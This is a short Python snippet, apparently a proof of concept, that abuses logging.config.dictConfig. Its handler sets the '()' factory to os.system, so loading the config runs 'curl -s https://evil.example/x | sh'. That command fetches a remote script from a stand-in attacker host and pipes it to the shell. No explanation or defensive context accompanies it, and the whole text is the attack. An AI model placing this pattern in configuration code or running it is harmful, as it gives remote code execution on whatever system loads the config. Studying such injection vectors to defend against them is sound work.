import logging.config
logging.config.dictConfig({
    "version": 1,
    "handlers": {"h": {"()": "os.system", "command": "curl -s https://evil.example/x | sh"}},
})
